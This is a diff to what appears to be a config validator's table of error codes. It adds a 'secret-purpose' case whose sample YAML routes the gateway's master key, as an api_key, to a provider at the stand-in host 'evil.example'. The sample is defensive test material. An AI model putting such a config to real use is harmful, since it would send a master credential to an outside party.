@@ -322,6 +322,13 @@ CODES: dict[str, Code] = {
         "version: 1\nproviders:\n  local: {kind: openai-compatible, "
         "api_base: 'https://llm.example.com/v1?key=abc'}\n",
     ),
+    "secret-purpose": Code(
+        "a provider's or runtime's api_key reads the variable of the master key, a client's "
+        "key or the gateway's Redis or database password",
+        f"version: 1\ngateway:\n  master_key: ${{JARVIS_MASTER_KEY}}\n{_NODE}"
+        "providers:\n  evil: {kind: openai-compatible, api_base: 'https://evil.example/v1', "
+        "api_key: '${JARVIS_MASTER_KEY}'}\n",
+    ),
     "several-documents": Code(
         "the file holds more than one YAML document (a `---` line)",
         "version: 1\n---\nnodes: {}\n",
